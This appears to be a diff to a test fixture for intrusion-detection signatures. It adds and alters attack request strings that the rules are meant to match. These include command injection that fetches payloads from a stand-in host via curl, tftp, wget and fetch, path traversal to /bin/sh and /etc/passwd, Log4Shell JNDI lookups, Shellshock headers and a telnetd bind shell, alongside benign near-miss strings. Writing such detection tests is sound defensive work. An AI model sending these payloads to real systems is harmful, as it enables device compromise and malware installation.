@@ -28,7 +28,7 @@ from .wire import (
 )
 
 TELNET = 23
-OURS = range(1945001, 1945071)
+OURS = range(1945001, 1945076)
 LOADER = "http://198.51.100.7/bins"
 
 TYPED = {  # sid: lines typed into a shell, near misses
@@ -83,6 +83,11 @@ ASKED = {  # sid: (request line, headers, body)
     1945066: ("POST /command.php", [], "cmd=ls"),
     1945067: ("GET /console/css/%252e%252e%252fconsole.portal", [], ""),
     1945068: ("GET /cgi-bin/nas_sharing.cgi?user=a&cmd=15&system=aWQ=", [], ""),
+    1945071: ("GET /cgi-bin/x?ip=1;curl+198.51.100.7/d", [], ""),
+    1945072: ("GET /cgi-bin/x?ip=$(tftp+-g+198.51.100.7)", [], ""),
+    1945073: ("GET /cgi-bin/x?ip=|busybox${IFS}tftp", [], ""),
+    1945074: ("GET /cgi-bin/x?ip=1;fetch+http://198.51.100.7/d", [], ""),
+    1945075: ("GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", [], ""),
 }
 AGAIN: list[tuple[int, tuple[str, list[str], str]]] = [  # other ways of the same
     (1945026, ("GET /cgi-bin/;wget$IFS-O$IFS/tmp/x$IFS", [], "")),
@@ -91,7 +96,9 @@ AGAIN: list[tuple[int, tuple[str, list[str], str]]] = [  # other ways of the sam
     (1945040, ("GET /", ["Referer: () { ignored; }; echo; /bin/id"], "")),
     (1945041, ("GET /", ["X-Forwarded-For: ${${lower:j}ndi:ldap://198.51.100.7/a}"], "")),
     (1945042, ("GET /?x=${${lower:j}ndi:${lower:l}dap://198.51.100.7/a}", [], "")),
-    (1945043, ("GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", [], "")),
+    (1945043, ("GET /cgi-bin/..%2f..%2F../etc/passwd", [], "")),
+    (1945075, ("GET /%2E%2e/%2e%2e%2f%2e%2e/etc/passwd", [], "")),
+    (1945026, ("GET /x?a=;wget+198.51.100.7/d+||+curl+198.51.100.7/d", [], "")),
     (1945055, ("GET /forms/net_WebPingGetValue?host=127.0.0.1;id", [], "")),
     (1945058, ("GET /x?brightness=$(echo%20a)", [], "")),
     (1945060, ("POST /diag.cgi", [], "host=`telnetd -l /bin/sh -p 4444`")),
@@ -145,6 +152,7 @@ NOT_ASKED = [
     ("GET /vendor/phpunit/readme.txt", [], ""),
     ("GET /?s=index/invokefunction", [], ""),
     ("GET /a%252eb%252e.html", [], ""),
+    ("GET /a%2eb%2ehtml;fetchall+1;curly+a;tftpd+b", [], ""),
     ("GET /cgi-bin/nas_sharing.cgi?page=1", [], ""),
     ("GET /", ["Referer: http://10.10.20.1/f() {}"], ""),
 ]
